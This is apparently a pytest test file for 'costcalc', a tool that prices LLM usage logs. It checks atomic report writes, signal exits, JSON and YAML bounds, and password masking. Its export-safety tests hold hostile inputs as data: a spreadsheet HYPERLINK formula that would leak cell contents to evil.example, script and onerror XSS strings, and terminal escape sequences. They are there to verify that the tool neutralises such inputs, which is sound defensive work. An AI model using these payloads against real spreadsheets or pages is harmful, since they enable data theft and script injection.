    for engine in ("python", "duckdb"):
        done = costcalc_process("price", str(path), "--format", "json", "--engine", engine, "--quiet")
        assert done.code == 0, done.err
        doc = json.loads(done.out)
        assert doc["accounting"]["priced"] == 1
        assert [r["line"] for r in doc["rejected"]] == [(256 << 20) + 2]
        assert done.peak_mib < 250, done.peak_mib


FORMAT_ARGS = [["--format", "table"], ["--format", "json"], ["--format", "jsonl"], ["--format", "csv"],
               ["--format", "csv", "--per-record"], ["--format", "markdown"], ["--format", "html"],
               ["--format", "focus"]]


@pytest.mark.parametrize("fmt", FORMAT_ARGS, ids=lambda a: "-".join(a[1:]))
def test_a_run_that_fails_midway_leaves_the_previous_report_untouched(tmp_path, fmt):
    good = write(tmp_path, "good.jsonl", lines(*[{"model": "gpt-4o", "prompt_tokens": n, "timestamp": 1.7e9 + n}
                                                 for n in range(1, 3001)]))
    truncated = write(tmp_path, "late.jsonl.gz", gzip.compress(good_bytes(good))[:-40])
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    report, rejects = out_dir / "report", out_dir / "rejects.txt"
    report.write_text("previous report\n")
    rejects.write_text("previous rejects\n")
    done = costcalc_process("price", good, truncated, *fmt, "--output", str(report), "--rejects", str(rejects),
                            "--engine", "python", "--quiet")
    assert done.code == 2
    one_error_line(done.err, "late.jsonl.gz")
    assert report.read_text() == "previous report\n" and rejects.read_text() == "previous rejects\n"
    assert sorted(os.listdir(out_dir)) == ["rejects.txt", "report"]  # no temporary file left beside them
    done = costcalc_process("price", good, *fmt, "--output", str(report), "--engine", "python", "--quiet")
    assert done.code == 0 and report.read_text() != "previous report\n"
    assert sorted(os.listdir(out_dir)) == ["rejects.txt", "report"]


def good_bytes(path: str) -> bytes:
    with open(path, "rb") as f:
        return f.read()


@pytest.fixture(scope="module")
def big_usage(tmp_path_factory) -> str:
    """About 40 MB of records: long enough to price that a signal lands while it runs."""
    path = tmp_path_factory.mktemp("big") / "big.jsonl"
    one = b'{"model": "gpt-4o", "prompt_tokens": 1000, "completion_tokens": 10, "user": "u", "timestamp": 1.7e9}\n'
    path.write_bytes(one * 400_000)
    return str(path)


@pytest.mark.parametrize(("sig", "code", "word"), [(2, 130, "interrupted"), (15, 143, "SIGTERM"), (1, 129, "SIGHUP")])
@pytest.mark.parametrize("mode", [["--format", "jsonl", "--jobs", "2"], ["--format", "json", "--engine", "duckdb"],
                                  ["--format", "csv", "--per-record", "--jobs", "1"]],
                         ids=["workers", "duckdb", "one-process"])
def test_signals_exit_with_one_line_and_leave_the_previous_report(tmp_path, big_usage, sig, code, word, mode):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    report = out_dir / "report"
    report.write_text("previous report\n")
    spill = tmp_path / "tmp"
    spill.mkdir()

    def under_way() -> bool:
        # what each run makes first once it is reading: DuckDB's spill directory, the workers' run directory,
        # the temporary report beside the target
        return any(spill.iterdir()) if "duckdb" in mode else len(os.listdir(out_dir)) > 1

    # Ctrl-C goes to the terminal's whole process group (workers included); kill sends to one process
    done = costcalc_process("price", big_usage, *mode, "--output", str(report), "--quiet", env={"TMPDIR": str(spill)},
                            signal_after=(under_way, sig), group=sig == 2, timeout=120)
    assert done.code == code, (done.code, done.err, done.seconds)
    one_error_line(done.err, word)
    assert "BrokenPipeError" not in done.err
    assert report.read_text() == "previous report\n"
    assert os.listdir(out_dir) == ["report"]  # no temporary report, no run directory of worker parts


@pytest.mark.parametrize("out", ["file", "stdout"])
def test_a_signal_native_code_swallowed_still_ends_the_run(tmp_path, monkeypatch, capsys, out):
    # DuckDB's query loop runs Python's signal handlers and may carry on after the handler raised: the exception
    # never reaches costcalc, yet the run must end as the signal did (exit 128 + 15), the previous report kept
    import signal
    import time

    from costcalc.engines import duckdb_engine
    from costcalc.errors import Interrupted

    real = duckdb_engine._query

    def swallowing(con: Any, sql: str) -> Any:
        try:
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(1)  # the handler runs here and raises
        except Interrupted:
            pass  # what the native loop does with it
        return real(con, sql)

    monkeypatch.setattr(duckdb_engine, "_query", swallowing)
    src = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1000, "completion_tokens": 10}))
    report = tmp_path / "report.json"
    report.write_text("previous report\n")
    target = ["--output", str(report)] if out == "file" else []
    assert main(["price", src, "--engine", "duckdb", "--format", "json", "--quiet", *target]) == 143
    captured = capsys.readouterr()
    assert captured.err == "costcalc: stopped by SIGTERM\n"
    assert report.read_text() == "previous report\n" and sorted(os.listdir(tmp_path)) == ["report.json", "u.jsonl"]


def test_the_big_config_message_says_what_it_counts():
    from costcalc.rates.config import MAX_YAML_NODES, YAMLProblem, _check_bounds

    plain = {"model_list": [{"model_name": f"m{i}", "x": [1, 2, 3]} for i in range(MAX_YAML_NODES // 4)]}
    with pytest.raises(YAMLProblem, match="the config holds more than 1,000,000 values"):
        _check_bounds(plain)
    shared = [1] * 1000
    aliased = {"a": [shared] * 2000}
    with pytest.raises(YAMLProblem, match="YAML aliases expand to more than 1,000,000 values"):
        _check_bounds(aliased)


# -- exports safe to open, text safe to show -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR"]


def hostile_usage(tmp_path) -> str:
    recs = [{"model": "gpt-4o", "prompt_tokens": 10 + i, "timestamp": 1.7e9 + i, "team": f, "user": f}
            for i, f in enumerate(FORMULAS)]
    recs.append({"model": "gpt-4o", "prompt_tokens": 1, "timestamp": 1.7e9, "team": 'a,b "q"\r\nnext', "user": "ok"})
    recs.append({"model": 'bad\r\nmodel,"x"', "prompt_tokens": 1, "timestamp": 1.7e9, "team": "t", "user": "ok"})
    return write(tmp_path, "hostile.jsonl", lines(*recs))


def test_formula_cells_are_neutralised_in_csv_and_focus_and_read_back_whole(capsys, tmp_path, monkeypatch):
    import csv as csv_module

    import duckdb

    from costcalc.reports.cells import printable, spreadsheet_cell

    path = hostile_usage(tmp_path)
    for args in (["--format", "csv", "-g", "team"], ["--format", "csv", "--per-record"],
                 ["--format", "csv", "-g", "team", "--currency", "EUR", "--fx-rate", "0.5"], ["--format", "focus"]):
        out = tmp_path / "out.csv"
        code, _, err = run(capsys, "price", path, *args, "--output", str(out))
        assert code == 0, err
        with open(out, newline="") as f:
            rows = list(csv_module.reader(f))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], args
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], args
        if "focus" not in args:  # the teams as the JSON report has them, each neutralised when it would be a formula
            code, doc, _ = run(capsys, "price", path, "--format", "json", "-g", "team")
            teams = {g["key"]["team"] for g in json.loads(doc)["groups"]}
            col = rows[0].index("team")
            written = {row[col] for row in rows[1:]} - {"", "TOTAL"}
            # (control characters in group keys show as \xNN in some exports, as on a terminal)
            assert {spreadsheet_cell(printable(t)) for t in teams} <= written \
                or {spreadsheet_cell(t) for t in teams} <= written
        if "--per-record" in args:  # a model name is written as it is: CR, LF, quotes and commas read back whole
            assert rows[-1][rows[0].index("model")] == 'bad\r\nmodel,"x"'
        assert len(rows) == len({tuple(r) for r in rows}) and all(len(r) == len(rows[0]) for r in rows)
        # DuckDB's reader sees the same rows: a CR or LF inside a value does not split its row
        assert len(duckdb.read_csv(str(out), header=True, all_varchar=True).fetchall()) == len(rows) - 1
    monkeypatch.setenv("COSTCALC_RAW_CELLS", "1")  # the opt-out: values byte for byte
    code, out_text, _ = run(capsys, "price", path, "--format", "csv", "-g", "team")
    assert code == 0
    teams = [row[0] for row in csv_module.reader(io.StringIO(out_text, newline=""))]
    assert set(FORMULAS) <= set(teams)


def test_discounts_written_by_costcalc_stay_numbers(capsys, tmp_path):
    config = write(tmp_path, "c.yaml", "model_list:\n  - model_name: m\n    litellm_params: {model: openai/gpt-4o}\n"
                   "litellm_settings: {cost_discount_config: {openai: 0.5}}\n")
    path = write(tmp_path, "u.jsonl", lines({"model": "m", "prompt_tokens": 1000}))
    code, out, _ = run(capsys, "price", path, "--config", config, "--format", "csv")
    assert code == 0
    header, row, _ = list(csv_module_reader(out))
    # 1000 tokens x $2.5e-6 = $0.0025, half of it discounted
    assert row[header.index("discount_cost")] == "-0.00125"


def csv_module_reader(text: str) -> list[list[str]]:
    import csv as csv_module

    return list(csv_module.reader(io.StringIO(text, newline="")))


def test_markdown_escapes_html_and_control_characters(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", lines(
        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<script>alert(1)</script>"},
        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<img src=x onerror=alert(1)> & <iframe srcdoc='x'>"},
        {"model": "gpt-4o", "prompt_tokens": 1, "team": "\x1b[2A\x1b[2Kgone"},
        {"model": "<b>bold</b>", "prompt_tokens": 1}))
    code, out, _ = run(capsys, "price", path, "-g", "team", "--format", "markdown")
    assert code == 0
    assert "<" not in out.replace("<br>", "") and "\x1b" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out and "&amp;" in out and "\\x1b[2A\\x1b[2Kgone" in out
    code, out, _ = run(capsys, "price", path, "-g", "team")
    assert code == 0 and "\x1b" not in out and "\\x1b[2A" in out


# -- one JSON semantics across engines -------------------------------------------------------------------------

ODD_JSON = (b'{"model": "gpt-4o", "prompt_tokens": 10, "prompt_tokens": 20000}\n'
            b'{"model": "gpt-4o", "prompt_tokens": 5, "user": "a", "user" : "b"}\n'
            b'{"model": "gpt-4o", "prompt_tokens": 5, "metadata": {"x": 1, "x": 2}}\n'
            b'{"model": "gpt-4o", "prompt_tokens": 5, "\\u0075ser": "a", "user": "b"}\n'
            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 64 + b"]" * 64 + b"}\n"
            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 62 + b"]" * 62 + b"}\n"
            b'{"model": "gpt-4o", "prompt_tokens": 7, "note": "a\\":1, \\"b\\":2"}\n')


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_repeated_keys_and_deep_nesting_are_rejected_by_every_engine(capsys, tmp_path, engine):
    path = write(tmp_path, "odd.jsonl", ODD_JSON * 3)
    doc = price_json(capsys, path, "--engine", engine)
    assert doc["accounting"]["priced"] == 6 and doc["accounting"]["rejected"] == 15
    reasons = {(r["line"] - 1) % 7 + 1: r["reason"] for r in doc["rejected"]}
    assert reasons[1].startswith('repeated key "prompt_tokens"')
    assert reasons[2].startswith('repeated key "user"') and reasons[4].startswith('repeated key "user"')
    assert reasons[3].startswith('repeated key "x"')
    assert reasons[5].startswith("nested deeper than 64 levels")
    # 3 x (5 tokens at $2.5e-6 + 7 tokens at $2.5e-6) = $0.00009, and the sample config's 5% global margin
    assert doc["totals"]["cost"]["total"] == 0.0000945


# -- databases: the password, a frozen server ------------------------------------------------------------------

def test_a_url_password_is_gone_from_the_process_arguments(tmp_path):
    import socket

    # a server that accepts and never answers: costcalc waits (connect timeout) long enough to be looked at
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    port = listener.getsockname()[1]
    seen: list[bytes] = []

    def look(proc: Any) -> None:
        import time

        def read() -> None:
            time.sleep(1.5)
            with open(f"/proc/{proc.pid}/cmdline", "rb") as f:
                seen.append(f.read())

        threading.Thread(target=read, daemon=True).start()

    try:
        done = costcalc_process("price", f"postgresql://u:hunter2-pw@127.0.0.1:{port}/db", "--db-timeout", "3",
                                started=look, timeout=60)
    finally:
        listener.close()
    assert seen and b"postgresql://u:" in seen[0] and b"hunter2-pw" not in seen[0], seen
    assert done.code == 2
    one_error_line(done.err, "postgresql://u:***@127.0.0.1", "unreachable")
    assert "hunter2-pw" not in done.err


def test_a_json_array_file_has_the_same_json_rules_and_a_size_bound(capsys, tmp_path, monkeypatch):
    path = write(tmp_path, "spend.json", json.dumps([{"model": "gpt-4o", "prompt_tokens": 1}]).replace("]", "")
                 + ', {"model": "gpt-4o", "prompt_tokens": 1, "prompt_tokens": 9}, '
                 '{"model": "gpt-4o", "prompt_tokens": 1, "m": {"a": [{"b": 1, "b": 2}]}}, '
                 '{"model": "gpt-4o", "prompt_tokens": 1, "tags": ' + "[" * 64 + "]" * 64 + "}]")
    rows = price_jsonl(capsys, path)
    assert [(r["line"], r["status"], r.get("reason", "")[:22]) for r in rows] == [
        (1, "priced", ""), (2, "rejected", 'repeated key "prompt_t'), (3, "rejected", 'repeated key "b" in on'),
        (4, "rejected", "nested deeper than 64 ")]
    # past 16 times the line limit a JSON array is not held whole: it is read as lines (here: one too long)
    monkeypatch.setenv("COSTCALC_MAX_LINE_BYTES", "20")
    rows = price_jsonl(capsys, path)
    assert [(r["line"], r["status"]) for r in rows] == [(1, "rejected")] and "longer than" in rows[0]["reason"]
